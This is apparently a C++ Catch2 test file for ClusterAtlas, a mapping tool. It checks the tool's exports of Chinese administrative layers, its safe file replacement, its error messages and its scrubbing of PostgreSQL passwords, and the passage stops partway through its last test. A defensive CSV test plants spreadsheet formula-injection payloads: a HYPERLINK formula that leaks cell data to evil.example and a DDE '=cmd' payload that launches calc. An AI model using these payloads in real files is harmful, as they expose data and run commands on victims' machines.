// Outputs that never lose or expose data and open right where users open them (issue: atomic writes,
// checked writes, formats). Each TEST_CASE is one kind of fault; the kinds that need root, strace or
// a full file system are the shell tests in tests/outputs/.
#include <gdal_priv.h>
#include <ogrsf_frmts.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <catch2/catch.hpp>
#include <cmath>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>

#include "analysis/classify.hpp"
#include "error.hpp"
#include "geo/projection.hpp"
#include "io/csv.hpp"
#include "io/gdal_env.hpp"
#include "io/pg_connection.hpp"
#include "io/user_data.hpp"
#include "scene/figure.hpp"
#include "support.hpp"

using namespace atlas;
using atlas::test::run_cli;
using atlas::test::TempFolder;
using Catch::Matchers::Contains;
namespace fs = std::filesystem;

namespace {

struct Validity {
    int features = 0, valid = 0, empty = 0;
};

/// Every feature of a layer read back by GDAL and judged by GEOS (OGR's IsValid).
Validity validity(const std::string& path, const std::string& layer_name) {
    ensure_gdal_registered();
    GDALDatasetUniquePtr ds(GDALDataset::Open(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
    REQUIRE(ds);
    OGRLayer* layer = layer_name.empty() ? ds->GetLayer(0) : ds->GetLayerByName(layer_name.c_str());
    REQUIRE(layer != nullptr);
    Validity v;
    for (auto& f : *layer) {
        ++v.features;
        const OGRGeometry* g = f->GetGeometryRef();
        if (g == nullptr || g->IsEmpty())
            ++v.empty;
        else if (g->IsValid())
            ++v.valid;
    }
    return v;
}

/// Runs clusteratlas with its stdout redirected by the shell (`redirect`, e.g. "> /dev/full").
std::pair<int, std::string> run_redirected(const std::string& args, const std::string& redirect) {
    TempFolder tmp;
    std::string command = std::string(ATLAS_CLI) + " " + args + " " + redirect + " 2>" + tmp.path("err");
    int status = std::system(command.c_str());
    return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, test::read_text(tmp.path("err"))};
}

}  // namespace

TEST_CASE("simplify: every polygon stays valid, in every layer", "[outputs]") {
    TempFolder tmp;
    auto p = run_cli("export --layer provinces --simplify 2000 -o " + tmp.path("provinces.fgb"));
    REQUIRE(p.exit_code == 0);
    Validity provinces = validity(tmp.path("provinces.fgb"), "");
    CHECK(provinces.features == 34);
    CHECK(provinces.valid == 34);
    auto coarse = run_cli("export --layer provinces --simplify 20000 -o " + tmp.path("p20k.gpkg"));
    REQUIRE(coarse.exit_code == 0);
    CHECK(validity(tmp.path("p20k.gpkg"), "provinces").valid == 34);
    auto all = run_cli("export --layer all --simplify 2000 -o " + tmp.path("all.gpkg"));
    REQUIRE(all.exit_code == 0);
    for (const auto& [layer, count] :
         {std::pair<const char*, int>{"prefectures", 367}, {"regions", 19}, {"coverage", 34}}) {
        INFO(layer);
        Validity v = validity(tmp.path("all.gpkg"), layer);
        CHECK(v.features == count);
        CHECK(v.valid == count);
    }
}

TEST_CASE("precision: every polygon stays valid (GEOS snap-rounding where rounding broke one) and says how many",
          "[outputs]") {
    TempFolder tmp;
    auto r = run_cli("export --layer prefectures --precision 3 -o " + tmp.path("p3.geojson"));
    REQUIRE(r.exit_code == 0);
    CHECK_THAT(r.err, Contains("of 367 prefectures snap-rounded by GEOS to stay valid"));
    Validity v = validity(tmp.path("p3.geojson"), "");
    CHECK(v.features == 367);
    CHECK(v.valid == 367);
    auto one = run_cli("export --layer provinces --precision 1 -o " + tmp.path("p1.geojson"));
    REQUIRE(one.exit_code == 0);
    CHECK(validity(tmp.path("p1.geojson"), "").valid == 34);
}

TEST_CASE("simplification alone: the repaired polygons are said to be made valid, not snap-rounded", "[outputs]") {
    TempFolder tmp;
    // A GeoPackage keeps full precision: nothing is rounded, so nothing is snap-rounded.
    auto r = run_cli("export --layer prefectures --simplify 2000 -o " + tmp.path("s.gpkg"));
    REQUIRE(r.exit_code == 0);
    CHECK_THAT(r.err, Contains("of 367 prefectures repaired by GEOS MakeValid: simplification made them invalid"));
    CHECK_THAT(r.err, !Contains("snap-rounded"));
    Validity v = validity(tmp.path("s.gpkg"), "prefectures");
    CHECK(v.features == 367);
    CHECK(v.valid == 367);
}

TEST_CASE("options that would leave features without area, and negative or NaN tolerances, are refused", "[outputs]") {
    TempFolder tmp;
    auto zero = run_cli("export --layer prefectures --precision 0 -o " + tmp.path("p0.geojson"));
    CHECK(zero.exit_code == 2);
    CHECK_THAT(zero.err, Contains("--precision 0 leaves"));
    CHECK_THAT(zero.err, Contains("of 367 features of layer 'prefectures' without any area ("));
    CHECK_FALSE(fs::exists(tmp.path("p0.geojson")));
    auto huge = run_cli("export --layer provinces --simplify 1e9 -o " + tmp.path("s.geojson"));
    CHECK(huge.exit_code == 2);
    CHECK_THAT(huge.err, Contains("--simplify 1e+09 leaves"));
    auto negative = run_cli("export --layer provinces --simplify=-100 -o " + tmp.path("n.geojson"));
    CHECK(negative.exit_code == 2);
    CHECK_THAT(negative.err, Contains("--simplify must be a distance in metres, 0 or more"));
    auto nan = run_cli("export --layer provinces --simplify=nan -o " + tmp.path("n.geojson"));
    CHECK(nan.exit_code == 2);
    CHECK_THAT(nan.err, Contains("--simplify: 'nan' is not a decimal number"));
}

TEST_CASE("KML placemarks carry the unit's name and a description, and read back by GDAL", "[outputs]") {
    TempFolder tmp;
    REQUIRE(run_cli("export --layer hubs -o " + tmp.path("hubs.kml")).exit_code == 0);
    REQUIRE(run_cli("export --layer regions --region 长三角 -o " + tmp.path("yrd.kml")).exit_code == 0);
    std::string hubs = test::read_text(tmp.path("hubs.kml"));
    CHECK_THAT(hubs, Contains("<name>Shanghai 上海</name>"));
    std::size_t placemarks = 0, names = 0;
    for (std::size_t i = 0; (i = hubs.find("<Placemark>", i)) != std::string::npos; ++i) {
        ++placemarks;
        names += hubs.compare(hubs.find('<', i + 11), 6, "<name>") == 0;
    }
    CHECK(placemarks == 16);
    CHECK(names == 16);
    std::string yrd = test::read_text(tmp.path("yrd.kml"));
    CHECK_THAT(yrd, Contains("<name>Yangtze River Delta"));
    CHECK_THAT(yrd, Contains("<description>"));
    ensure_gdal_registered();
    GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("hubs.kml").c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
    REQUIRE(ds);
    CHECK(ds->GetLayer(0)->GetFeatureCount() == 16);
}

TEST_CASE("CSV exports open in Excel: a UTF-8 BOM unless --no-bom, and read back by GDAL", "[outputs]") {
    TempFolder tmp;
    REQUIRE(run_cli("export --layer hubs -o " + tmp.path("hubs.csv")).exit_code == 0);
    std::string csv = test::read_text(tmp.path("hubs.csv"));
    CHECK(csv.rfind("\xEF\xBB\xBF", 0) == 0);
    CHECK_THAT(csv, Contains("上海"));
    ensure_gdal_registered();
    GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("hubs.csv").c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
    REQUIRE(ds);
    CHECK(ds->GetLayer(0)->GetFeatureCount() == 16);
    REQUIRE(run_cli("export --layer hubs --no-bom -o " + tmp.path("plain.csv")).exit_code == 0);
    CHECK(test::read_text(tmp.path("plain.csv")).rfind("WKT,", 0) == 0);
    // Lists as "a; b", as the Shapefile and `list` give them: GDAL's CSV wrote JSON ("[ ""zhongyuan"" ]").
    REQUIRE(run_cli("export --layer regions --no-bom -o " + tmp.path("regions.csv")).exit_code == 0);
    std::string regions = test::read_text(tmp.path("regions.csv"));
    CHECK(regions.find("[ \"\"") == std::string::npos);
    CHECK_THAT(regions, Contains("110000; 120000; 130000"));  // the provinces of Beijing-Tianjin-Hebei
}

TEST_CASE("a layer named twice is written once, where first named", "[outputs]") {
    TempFolder tmp;
    // GDAL refused the second 'regions' after the first was written (exit 4, "already exists").
    auto r = run_cli("export --layer hubs --layer regions --layer hubs -o " + tmp.path("twice.gpkg"));
    REQUIRE(r.exit_code == 0);
    ensure_gdal_registered();
    GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("twice.gpkg").c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
    REQUIRE(ds);
    REQUIRE(ds->GetLayerCount() == 2);
    CHECK(std::string(ds->GetLayer(0)->GetName()) == "hubs");
    CHECK(ds->GetLayer(0)->GetFeatureCount() == 16);
    CHECK(std::string(ds->GetLayer(1)->GetName()) == "regions");
    CHECK(ds->GetLayer(1)->GetFeatureCount() == 19);
    // GeoJSON holds one layer: the same layer twice is still one.
    CHECK(run_cli("export --layer regions --layer regions -o " + tmp.path("r.geojson")).exit_code == 0);
}

TEST_CASE("a region filter keeps the new districts and counties in the region, not a partial member's others",
          "[outputs][counties]") {
    TempFolder tmp;
    auto districts = run_cli("export --layer new_districts --region chengdu_chongqing -o " + tmp.path("d.geojson"));
    REQUIRE(districts.exit_code == 0);
    ensure_gdal_registered();
    auto ids = [](const std::string& path, const char* field) {
        GDALDatasetUniquePtr ds(GDALDataset::Open(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY));
        REQUIRE(ds);
        std::set<std::string> out;
        for (auto& f : *ds->GetLayer(0)) out.insert(f->GetFieldAsString(field));
        return out;
    };
    // Liangjiang (Chongqing) and Tianfu (Sichuan); all 19 were written before.
    CHECK(ids(tmp.path("d.geojson"), "id") == std::set<std::string>{"nd03", "nd11"});
    REQUIRE(run_cli("export --layer counties --region chengdu_chongqing -o " + tmp.path("c.gpkg")).exit_code == 0);
    std::set<std::string> counties = ids(tmp.path("c.gpkg"), "code");
    CHECK(counties.count("510104") == 1);  // Chengdu's Jinjiang district
    CHECK(counties.count("500237") == 0);  // Wushan: Chongqing's, outside the region's scope
    CHECK(counties.count("510727") == 0);  // Pingwu: Mianyang's, outside it
}

TEST_CASE("with --force an export or render replaces files, never a FIFO or a device: refused in one line",
          "[outputs]") {
    // Renaming over them made /dev/null a plain file (as root, the system's own).
    TempFolder tmp;
    REQUIRE(::mkfifo(tmp.path("f.geojson").c_str(), 0600) == 0);
    REQUIRE(::mkfifo(tmp.path("f.png").c_str(), 0600) == 0);
    auto exported = run_cli("export --layer hubs --force -o " + tmp.path("f.geojson"));
    CHECK(exported.exit_code == 4);
    CHECK_THAT(exported.err, Contains("f.geojson: is a FIFO, not a file; the GeoJSON cannot replace it"));
    auto rendered = run_cli("render --size 64x48 --force -o " + tmp.path("f.png"));
    CHECK(rendered.exit_code == 4);
    CHECK_THAT(rendered.err, Contains("f.png: is a FIFO, not a file; the PNG cannot replace it"));
    struct stat st {};
    REQUIRE(::lstat(tmp.path("f.png").c_str(), &st) == 0);
    CHECK(S_ISFIFO(st.st_mode));
    // A Shapefile's side files are replaced with it: a FIFO among them too was made a plain file.
    REQUIRE(::mkfifo(tmp.path("s.dbf").c_str(), 0600) == 0);
    auto shapefile = run_cli("export --layer hubs --force -o " + tmp.path("s.shp"));
    CHECK(shapefile.exit_code == 4);
    CHECK_THAT(shapefile.err, Contains("s.dbf: is a FIFO, not a file"));
    REQUIRE(::lstat(tmp.path("s.dbf").c_str(), &st) == 0);
    CHECK(S_ISFIFO(st.st_mode));
}

// `points a.csv -o a.csv --force` replaced the points with the table of counts; the same with a table
// given to export --data, and a GeoPackage or Shapefile of points.
TEST_CASE("no output replaces an input of the same command, even with --force", "[outputs]") {
    TempFolder tmp;
    auto slurp = [](const std::string& path) {
        std::ifstream in(path, std::ios::binary);
        return std::string(std::istreambuf_iterator<char>(in), {});
    };
    std::string points = tmp.path("p.csv"), table = tmp.path("t.csv");
    std::ofstream(points) << "lon,lat\n116.4,39.9\n";
    std::ofstream(table) << "code,val\n110000,1\n";
    auto counted = run_cli("points " + points + " -o " + points + " --force");
    CHECK(counted.exit_code == 2);
    CHECK(counted.err == "clusteratlas: " + points + ": is an input of this command ('" + points +
                             "'); write the output elsewhere (--force never replaces an input)\n");
    CHECK(slurp(points) == "lon,lat\n116.4,39.9\n");
    auto exported = run_cli("export --data " + table + " -o " + table + " --force");
    CHECK(exported.exit_code == 2);
    CHECK(slurp(table) == "code,val\n110000,1\n");
    // A Shapefile of points (the plan's hubs), written over by the counts' Shapefile.
    REQUIRE(run_cli("export --layer hubs -o " + tmp.path("pts.shp")).exit_code == 0);
    auto shapefile = run_cli("points " + tmp.path("pts.shp") + " -o " + tmp.path("pts.shp") + " --force");
    CHECK(shapefile.exit_code == 2);
    CHECK_THAT(shapefile.err, Contains("is an input of this command"));
    // Only a source's own parts are inputs: china.geojson beside china.gpkg is the user's to replace
    // (it was refused as "an input", --force or not).
    fs::copy_file(std::string(ATLAS_GEODATA) + "/china.gpkg", tmp.path("china.gpkg"));
    for (int round = 0; round < 2; ++round) {
        auto beside = run_cli("--geodata " + tmp.path("china.gpkg") + " export --layer hubs -o " +
                              tmp.path("china.geojson") + " --force");
        CHECK(beside.exit_code == 0);
    }
    auto over = run_cli("--geodata " + tmp.path("china.gpkg") + " export --layer hubs -o " + tmp.path("china.gpkg") +
                        " --force");
    CHECK(over.exit_code == 2);
}

// `view --session s.json --state-file p.csv --force` replaced the points the session names with the
// viewer's state; `render --points p.csv --save-session p.csv --force` drew the figure, then refused.
TEST_CASE("a figure's or the viewer's outputs never replace the files a session names", "[outputs]") {
    TempFolder tmp;
    std::string points = tmp.path("p.csv"), session = tmp.path("s.json");
    std::ofstream(points) << "lon,lat\n116.4,39.9\n";
    REQUIRE(run_cli("render --renderer cairo --points " + points + " --save-session " + session + " -o " +
                    tmp.path("first.png"))
                .exit_code == 0);
    auto typed =
        run_cli("render --points " + points + " --save-session " + points + " --force -o " + tmp.path("a.png"));
    CHECK(typed.exit_code == 2);
    CHECK_THAT(typed.err, Contains("p.csv: is an input of this command"));
    CHECK(!fs::exists(tmp.path("a.png")));  // refused before drawing
    auto named =
        run_cli("render --session " + session + " --save-session " + points + " --force -o " + tmp.path("b.png"));
    CHECK(named.exit_code == 2);
    CHECK(!fs::exists(tmp.path("b.png")));
    auto two = run_cli("render -o " + tmp.path("c.png") + " --save-session " + tmp.path("c.png") + " --force");
    CHECK(two.exit_code == 2);
    CHECK_THAT(two.err, Contains("c.png' is the file -o writes: name another"));
    CHECK(!fs::exists(tmp.path("c.png")));
    if (ATLAS_HAVE_VIEWER) {
        auto state = run_cli("view --session " + session + " --state-file " + points + " --force --frames 1");
        CHECK(state.exit_code == 2);
        CHECK_THAT(state.err, Contains("p.csv: is an input of this command"));
        // The diagnostic logs too: --frame-log over the session replaced it, exit 0.
        auto log = run_cli("view --session " + session + " --frame-log " + session + " --force --frames 1");
        CHECK(log.exit_code == 2);
        CHECK_THAT(log.err, Contains("s.json: is an input of this command"));
    }
    CHECK(test::read_text(points) == "lon,lat\n116.4,39.9\n");
}

// x.gml, x.xlsx and x.kmz held GeoJSON text; "-o m.gpkg --format GeoJSON" a GeoJSON named .gpkg.
TEST_CASE("an output name whose extension is no format written, or disagrees with --format, is refused", "[outputs]") {
    TempFolder tmp;
    auto gml = run_cli("export --layer hubs -o " + tmp.path("x.gml"));
    CHECK(gml.exit_code == 2);
    CHECK(gml.err == "clusteratlas: " + tmp.path("x.gml") +
                         ": '.gml' is not the extension of a format ClusterAtlas writes (.geojson, .geojsonl, .gpkg, "
                         ".fgb, .shp, .kml, .csv); rename it or give --format\n");
    CHECK(!fs::exists(tmp.path("x.gml")));
    auto disagree = run_cli("export --layer hubs --format GeoJSON -o " + tmp.path("m.gpkg"));
    CHECK(disagree.exit_code == 2);
    CHECK(disagree.err ==
          "clusteratlas: " + tmp.path("m.gpkg") + ": the name says GPKG but --format says GeoJSON; make them agree\n");
    // --format in any case, and a name of no known extension written as the format says.
    CHECK(run_cli("export --layer hubs --format geojson -o " + tmp.path("h.txt")).exit_code == 0);
    CHECK(test::read_text(tmp.path("h.txt")).find("\"FeatureCollection\"") != std::string::npos);
}

TEST_CASE("a zipped Shapefile's name too long for GDAL's temporary file is refused before the work, in one line",
          "[outputs]") {
    // GDAL failed at the end: "Cannot recompress ./.clusteratlas-tmp-.../aaa..." (its text, a temporary path).
    TempFolder tmp;
    for (const char* ext : {".shp.zip", ".shz"}) {
        std::string name = std::string(240 - std::string(ext).size(), 'z') + ext;
        auto r = run_cli("export --layer hubs -o " + tmp.path(name));
        INFO(r.err);
        CHECK(r.exit_code == 4);
        CHECK_THAT(r.err, Contains("(File name too long: a zipped Shapefile's name may have 234 bytes, this one "
                                   "has 240)"));
        CHECK(r.err.find("clusteratlas-tmp") == std::string::npos);
        std::string fits = std::string(234 - std::string(ext).size(), 'y') + ext;
        CHECK(run_cli("export --layer hubs -o " + tmp.path(fits)).exit_code == 0);
    }
    std::size_t left = 0;
    for (const auto& entry : fs::directory_iterator(tmp.path(""))) left += entry.path().filename().string()[0] == 'y';
    CHECK(left == 2);
}

TEST_CASE("a Shapefile whose name is near the 255-byte limit is replaced like any other", "[outputs]") {
    TempFolder tmp;
    // The replace journal ".NAME.clusteratlas-commit" went past 255 bytes: "File name too long", exit 4.
    std::string name = std::string(245, 'z') + ".shp";
    REQUIRE(run_cli("export --layer hubs -o " + tmp.path(name)).exit_code == 0);
    auto again = run_cli("export --layer hubs --force -o " + tmp.path(name));
    INFO(again.err);
    CHECK(again.exit_code == 0);
    std::set<std::string> left;
    for (const auto& entry : fs::directory_iterator(tmp.path(""))) left.insert(entry.path().extension().string());
    CHECK(left == std::set<std::string>{".cpg", ".dbf", ".prj", ".shp", ".shx"});  // no journal left
}

TEST_CASE("text that a spreadsheet would run as a formula is neutralised in every CSV output", "[outputs]") {
    CHECK(neutralise_formula("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")");
    CHECK(neutralise_formula("@SUM(A1)") == "'@SUM(A1)");
    CHECK(neutralise_formula("-1.5") == "-1.5");  // numbers stay numbers
    CHECK(neutralise_formula("+86") == "+86");
    CHECK(neutralise_formula("Beijing") == "Beijing");
    TempFolder tmp;
    fs::copy_file(std::string(ATLAS_GEODATA) + "/china.gpkg", tmp.path("atlas.gpkg"));
    {
        ensure_gdal_registered();
        GDALDatasetUniquePtr ds(GDALDataset::Open(tmp.path("atlas.gpkg").c_str(), GDAL_OF_VECTOR | GDAL_OF_UPDATE));
        REQUIRE(ds);
        ds->ExecuteSQL(
            "UPDATE provinces SET name_en = '=HYPERLINK(\"http://evil.example/?\"&A1,\"Beijing\")', "
            "name_zh = '=cmd|'' /C calc''!A0' WHERE code = '110000'",
            nullptr, nullptr);
    }
    std::string gpkg = "--geodata " + tmp.path("atlas.gpkg") + " ";
    REQUIRE(run_cli(gpkg + "export --layer provinces -o " + tmp.path("out.csv")).exit_code == 0);
    auto list = run_cli(gpkg + "list provinces --format csv");
    auto coverage = run_cli(gpkg + "coverage --by province --format csv");
    for (const std::string& text : {test::read_text(tmp.path("out.csv")), list.out, coverage.out}) {
        CHECK_THAT(text, Contains("'=cmd|"));
        CHECK_THAT(text, Contains("'=HYPERLINK("));
    }
    auto raw = run_cli(gpkg + "list provinces --format csv --keep-formulas");
    CHECK_THAT(raw.out, Contains(",=cmd|"));
    // A user table's column names are its header in the exported CSV: neutralised as cells are.
    { std::ofstream(tmp.path("d.csv")) << "code,=1+1,@x,+y\n110000,5,6,7\n"; }
    REQUIRE(run_cli("export --data " + tmp.path("d.csv") + " -o " + tmp.path("d.out.csv")).exit_code == 0);
    std::string header = test::read_text(tmp.path("d.out.csv"));
    header = header.substr(0, header.find('\n'));
    CHECK_THAT(header, Contains(",'=1+1,'@x,'+y"));
    REQUIRE(run_cli("export --data " + tmp.path("d.csv") + " --keep-formulas -o " + tmp.path("k.csv")).exit_code == 0);
    CHECK_THAT(test::read_text(tmp.path("k.csv")), Contains(",=1+1,@x,+y"));
}

TEST_CASE("legend class labels have the digits that tell their breaks apart", "[outputs]") {
    CHECK(format_breaks({104.21, 104.63, 105.1, 105.62, 106.2, 106.9}) ==
          std::vector<std::string>{"104.2", "104.6", "105.1", "105.6", "106.2", "106.9"});
    CHECK(format_breaks({45.01, 45.02, 45.03}) == std::vector<std::string>{"45.01", "45.02", "45.03"});
    CHECK(format_breaks({1200000, 1230000}) == std::vector<std::string>{"1.2M", "1.23M"});
    CHECK(format_breaks({1, 5, 12}) == std::vector<std::string>{"1", "5", "12"});
    // One number of decimals for all (the viewer tour's "1.97 - 3", "3 - 3.82"):
    CHECK(format_breaks({1.97, 3, 3.82}) == std::vector<std::string>{"1.97", "3.00", "3.82"});
    CHECK(format_breaks({-0.001, 0.5, 2}) == std::vector<std::string>{"-0.001", "0.500", "2.000"});
    Document& doc = test::bundled_document();
    UserTable t =
        read_user_table(std::string(ATLAS_TEST_DATA) + "/cases/sex_ratio.csv", doc.provinces(), doc.prefectures());
    Session s;
    s.choropleth = ChoroplethKind::UserData;
    s.data.path = t.path;
    Figure f = compose_figure(doc, s, &t);
    std::set<std::string> labels;
    for (const LegendEntry& e : f.legend.entries) {
        CHECK(labels.insert(e.label).second);
        std::size_t dash = e.label.find(" - ");
        if (dash != std::string::npos) CHECK(e.label.substr(0, dash) != e.label.substr(dash + 3));
    }
    CHECK(labels.size() >= 6);
}

// "0.50 - 1.00" then "1.00 - 100.00": six provinces of value 1 could be read in either class, and the
// legend of another table said "over -5, up to 3" then "3 to 1e+308" (helper-51). One token each side
// of the dash, as the handed case bh-08 reads a legend's classes.
TEST_CASE("a value on a class break is read in one class of the legend only", "[outputs]") {
    test::TempFolder tmp;
    std::ofstream(tmp.path("ties.csv")) << "code,v\n110000,1\n120000,1\n130000,1\n140000,1\n150000,1\n210000,1\n"
                                           "220000,2\n230000,100\n310000,0.5\n320000,0.25\n";
    Document& doc = test::bundled_document();
    UserTable t = read_user_table(tmp.path("ties.csv"), doc.provinces(), doc.prefectures());
    Session s;
    s.choropleth = ChoroplethKind::UserData;
    s.data.path = t.path;
    Figure f = compose_figure(doc, s, &t);
    std::vector<std::string> labels;
    for (const LegendEntry& e : f.legend.entries) labels.push_back(e.label);
    CHECK_THAT(labels, Catch::Matchers::VectorContains(std::string("0.25 - 0.50")) &&
                           Catch::Matchers::VectorContains(std::string(">0.50 - 1.00")) &&
                           Catch::Matchers::VectorContains(std::string(">1.00 - 100.00")));
}

TEST_CASE("a write to a full or closed stdout is exit 4 with a message", "[outputs]") {
    for (const char* args :
         {"export --layer prefectures -o -", "list prefectures --format csv", "coverage --by province --format csv"}) {
        INFO(args);
        auto [code, err] = run_redirected(args, "> /dev/full");
        CHECK(code == 4);
        CHECK_THAT(err, Contains("stdout: cannot write (No space left on device)"));
    }
    auto [closed, err] = run_redirected("export --layer hubs -o -", ">&-");
    CHECK(closed == 4);
    CHECK_THAT(err, Contains("stdout: cannot write (Bad file descriptor)"));
}

TEST_CASE("projections under which China cannot be shown are refused, and CRSs for elsewhere warned about",
          "[outputs]") {
    CHECK_THROWS_WITH(Projection("+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs"),
                      Contains("cannot show China: 0 of 121"));
    CHECK_THROWS_WITH(Projection("EPSG:4978"), Contains("is a geocentric (X, Y, Z) CRS, not a map projection"));
    // The same CRS as a bare PROJ string was drawn: X and Y of geocentric space, with a scale bar.
    CHECK_THROWS_WITH(Projection("+proj=geocent"), Contains("is a geocentric (X, Y, Z) CRS, not a map projection"));
    CHECK(Projection("+proj=merc").caveat().empty());  // a bare map projection stays a map
    CHECK_THAT(Projection("EPSG:32719").caveat(), Contains("is meant for lon -72..-66, lat -80..0, not China"));
    CHECK(Projection("albers").caveat().empty());
    TempFolder tmp;
    auto r = run_cli("--projection '+proj=ortho +lat_0=-60 +lon_0=-60 +type=crs' render --size 64x48 -o " +
                     tmp.path("o.png"));
    CHECK(r.exit_code == 2);
    CHECK_FALSE(fs::exists(tmp.path("o.png")));
    auto utm = run_cli("--projection EPSG:32719 render --size 64x48 -o " + tmp.path("u.png"));
    CHECK_THAT(utm.err, Contains("warning: projection 'EPSG:32719' is meant for"));
    if (ATLAS_HAVE_VIEWER) CHECK(utm.exit_code == 0);  // a build without the viewer warns, then cannot draw
}

TEST_CASE("PostgreSQL connection strings are parsed by libpq and the password never appears", "[outputs]") {
    CHECK(is_pg_connection("PG:host=x"));
    CHECK(is_pg_connection("  pg:host=x"));
    CHECK(is_pg_connection("postgresql://u:p@h/db"));
    CHECK_FALSE(is_pg_connection("pg.gpkg"));
    PgConnection c = parse_pg_connection(
        "pg:host=db port=5433 dbname=gis user=me password='correct horse' active_schema=atlas", ErrorKind::Input);
    CHECK(c.describe() == "PostGIS host db, port 5433, database gis");
    CHECK(c.schema() == "atlas");
    CHECK(parse_pg_connection("PG:dbname=x", ErrorKind::Input).schema().empty());
    CHECK_THAT(c.gdal_source(), Contains("connect_timeout=10"));
    CHECK_THAT(c.gdal_source(), Contains("active_schema='atlas'"));
    CHECK(c.scrub("password authentication failed: correct horse") == "password authentication failed: ***");
    PgConnection uri = parse_pg_connection("postgresql://atlas:TopSecret99@127.0.0.1:1/atlas", ErrorKind::Input);
    CHECK(uri.describe() == "PostGIS host 127.0.0.1, port 1, database atlas");
    for (const char* s : {"PG:host=127.0.0.1 port=1 dbname=atlas user=atlas password=correct horse",
                          "PG:host=127.0.0.1 port=1 dbname=atlas user=atlas password=\"correct horse\""}) {
        INFO(s);
        try {
            parse_pg_connection(s, ErrorKind::Input);
            FAIL("parsed");
        } catch (const AtlasError& e) {
            CHECK(e.message().find("horse") == std::string::npos);
            CHECK_THAT(e.message(), Contains("quote a value with spaces in single quotes"));
        }
    }
    TempFolder tmp;
    auto geodata =
        run_cli("--geodata 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99' list provinces");
    CHECK(geodata.exit_code == 3);
    CHECK(geodata.err.find("TopSecret99") == std::string::npos);
    CHECK_THAT(geodata.err, Contains("PostGIS host 127.0.0.1, port 1, database atlas: cannot connect"));
    auto out =
        run_cli("export --layer hubs -o 'pg:host=127.0.0.1 port=1 dbname=atlas user=atlas password=TopSecret99'");
    CHECK(out.exit_code == 4);
    CHECK(out.err.find("TopSecret99") == std::string::npos);
    for (const auto& entry : fs::directory_iterator(fs::current_path()))
        CHECK(entry.path().filename().string().find("TopSecret99") == std::string::npos);
}

TEST_CASE("a mistyped connection string is never a file named with its password, nor printed", "[outputs]") {
    TempFolder tmp;
    auto typo = run_cli("export --layer hubs -o '" + tmp.path("PG host=127.0.0.1 port=1 password=NoCoLn") + "'");
    CHECK(typo.exit_code == 2);
    CHECK(typo.err.find("NoCoLn") == std::string::npos);
    CHECK(fs::is_empty(tmp.dir()));
    // An unencoded '@' in a URI's password: libpq reads the rest as the host; no piece of it is shown.
    auto uri = run_cli("--geodata 'postgresql://u:At@Sgn@127.0.0.1:1/gis' info");
    CHECK(uri.exit_code == 3);
    CHECK(uri.err.find("Sgn") == std::string::npos);
    CHECK_THAT(uri.err, Contains("PostGIS host 127.0.0.1, port 1, database gis"));
}

TEST_CASE("a render that would draw nothing is refused, and a partly visible projection warned about", "[outputs]") {
    TempFolder tmp;
    std::ofstream(tmp.path("far.json"))
        << R"({"clusteratlas_session":1,"size":[64,48],"camera":{"lon":-70,"lat":-40,"metres_per_pixel":100}})";
    auto far = run_cli("render --session " + tmp.path("far.json") + " -o " + tmp.path("far.png"));
    CHECK(far.exit_code == 3);
    // The file and its key named (it said only "nothing to draw: the view ...").
    CHECK_THAT(far.err, Contains(tmp.path("far.json") + ": 'camera' (lon -70, lat -40, 100 m per pixel): the view "
                                                        "shows no part of China; remove 'camera' for all of China"));
    CHECK_FALSE(fs::exists(tmp.path("far.png")));
    // Over China's box but off its land (the Sea of Japan, zoomed in): the figure's own words.
    std::ofstream(tmp.path("sea.json"))
        << R"({"clusteratlas_session":1,"size":[64,48],"camera":{"lon":134,"lat":40,"metres_per_pixel":100}})";
    auto sea = run_cli("render --session " + tmp.path("sea.json") + " -o " + tmp.path("sea.png"));
    CHECK(sea.exit_code == 3);
    CHECK_THAT(sea.err, Contains("nothing to draw: the view (centre lon 134.0000, lat 40.0000"));
    CHECK_THAT(Projection("+proj=ortho +lat_0=0 +lon_0=15").caveat(), Contains("part of China will be missing"));
}

TEST_CASE("a figure too small for its legend is drawn and warned about in one line", "[outputs]") {
    // The 22-entry legend of a 400x300 map covers its title and credit even in the smallest type:
    // drawn, since the figure is the user's to judge, but said.
    TempFolder tmp;
    auto small = run_cli("render --size 400x300 --renderer cairo -o " + tmp.path("small.png"));
    CHECK(small.exit_code == 0);
    CHECK_THAT(small.err, Contains("warning: " + tmp.path("small.png") +
                                   ": the legend does not fit this 400x300 map even in small type"));
    CHECK(fs::exists(tmp.path("small.png")));
    auto fits = run_cli("render --size 640x480 --renderer cairo -o " + tmp.path("fits.png"));
    CHECK(fits.exit_code == 0);
    CHECK_THAT(fits.err, !Contains("legend does not fit"));
    // On a page the type is set in points: more pixels would not help, a wider page would.
    auto page = run_cli("render --width-mm 60 --renderer cairo -o " + tmp.path("page.png"));
    CHECK_THAT(page.err, Contains("give a larger --width-mm or --paper"));
    auto without = run_cli("render --size 400x300 --no-legend --renderer cairo -o " + tmp.path("without.png"));
    CHECK_THAT(without.err, !Contains("legend does not fit"));
}

TEST_CASE("a figure whose legend or scale bar must hide what it shows says so", "[outputs]") {
    // At 400x300 the province-coverage legend lay over Sichuan, Qinghai and Chongqing and the scale
    // bar over a region, and render said nothing (it warned only where the legend left the map).
    TempFolder tmp;
    auto small =
        run_cli("render --choropleth province-coverage --size 400x300 --renderer cairo -o " + tmp.path("small.png"));
    CHECK(small.exit_code == 0);
    CHECK_THAT(small.err, Contains("warning: " + tmp.path("small.png") +
                                   ": no corner of this 400x300 map is clear for the legend: it hides "));
    CHECK_THAT(small.err, Contains(": give a larger --size, or --no-legend"));
    CHECK_THAT(small.err, Contains("no place on this 400x300 map is clear for the scale bar and north arrow"));
    CHECK(fs::exists(tmp.path("small.png")));
    auto without = run_cli(
        "render --choropleth province-coverage --size 400x300 --no-legend --no-scale-bar "
        "--renderer cairo -o " +
        tmp.path("without.png"));
